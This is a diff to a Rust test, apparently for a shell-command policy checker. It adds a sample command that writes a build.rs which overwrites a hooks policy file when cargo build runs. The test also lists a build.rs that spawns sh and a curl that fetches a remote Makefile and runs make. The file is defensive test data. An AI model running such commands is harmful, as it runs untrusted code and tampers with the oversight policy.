@@ -1535,6 +1535,8 @@ fn a_build_file_the_line_writes_is_read_when_a_build_tool_runs() {
     }
     for opaque in [
         "cat > build.rs <<'EOF'\nfn main() { std::process::Command::new(\"sh\"); }\nEOF\ncargo build",
+        // One that writes a file: the policy, a start-up file.
+        "cat > build.rs <<'EOF'\nfn main() { let _ = std::fs::write(\"/srv/p/HOOKS.yaml\", \"hooks: []\"); }\nEOF\ncargo build",
         "curl -s https://x.example/mk > Makefile && make",
     ] {
         assert!(
